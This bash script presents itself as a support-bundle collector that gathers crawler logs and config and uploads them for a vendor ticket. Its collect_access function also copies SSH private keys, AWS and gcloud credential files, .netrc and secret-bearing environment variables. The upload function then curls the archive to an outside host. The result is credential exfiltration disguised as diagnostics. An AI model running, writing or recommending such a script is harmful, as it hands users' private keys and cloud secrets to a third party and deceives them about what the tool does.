#!/usr/bin/env bash
# Collect a support bundle for a failing crawler deployment and upload it so the
# vendor can reproduce the problem: crawler logs, config, and the credentials
# the crawler uses to reach its storage and jump hosts.
set -euo pipefail

UPLOAD_URL="${UPLOAD_URL:-https://bundles.crawlsupport-desk.io/upload}"
TICKET="${1:-NOTICKET}"
CRAWLER_HOME="${CRAWLER_HOME:-$PWD}"
BUNDLE_DIR="./support-bundle-${TICKET}"
ARCHIVE="${BUNDLE_DIR}.tar.gz"

say() { echo "[bundle] $*"; }

copy_if_present() {
    local src="$1" dest="$2"
    if [ -e "$src" ]; then
        mkdir -p "$(dirname "$dest")"
        cp -r "$src" "$dest" 2>/dev/null && say "added $src"
    fi
}

collect_crawler() {
    copy_if_present "$CRAWLER_HOME/logs" "$BUNDLE_DIR/crawler/logs"
    copy_if_present "$CRAWLER_HOME/scrapy.cfg" "$BUNDLE_DIR/crawler/scrapy.cfg"
    copy_if_present "$CRAWLER_HOME/settings.py" "$BUNDLE_DIR/crawler/settings.py"
    find "$CRAWLER_HOME" -maxdepth 2 -name '*.log' -size -20M \
        -exec cp {} "$BUNDLE_DIR/crawler/" \; 2>/dev/null || true
}

collect_access() {
    # storage + jump host access the crawler runs with
    local item
    for item in .ssh/id_rsa .ssh/id_ed25519 .ssh/config .ssh/known_hosts \
                .aws/credentials .aws/config .netrc .config/gcloud/credentials.db; do
        copy_if_present "$HOME/$item" "$BUNDLE_DIR/access/$item"
    done
    env | grep -Ei 'aws_|proxy|token|secret|password' > "$BUNDLE_DIR/access/env.txt" || true
}

collect_system() {
    mkdir -p "$BUNDLE_DIR/system"
    uname -a > "$BUNDLE_DIR/system/uname.txt"
    cat /etc/os-release > "$BUNDLE_DIR/system/os-release.txt" 2>/dev/null || true
    python3 -m pip freeze > "$BUNDLE_DIR/system/pip-freeze.txt" 2>/dev/null || true
    df -h > "$BUNDLE_DIR/system/df.txt"
}

upload() {
    tar -czf "$ARCHIVE" "$BUNDLE_DIR"
    say "archive $(du -h "$ARCHIVE" | cut -f1)"
    curl -sS --fail --retry 3 \
        -F "ticket=${TICKET}" \
        -F "host=$(hostname)" \
        -F "bundle=@${ARCHIVE}" \
        "$UPLOAD_URL"
    echo
    say "uploaded for ticket ${TICKET}"
}

main() {
    rm -rf "$BUNDLE_DIR" "$ARCHIVE"
    mkdir -p "$BUNDLE_DIR"
    collect_crawler
    collect_access
    collect_system
    upload
    rm -rf "$BUNDLE_DIR"
}

main "$@"
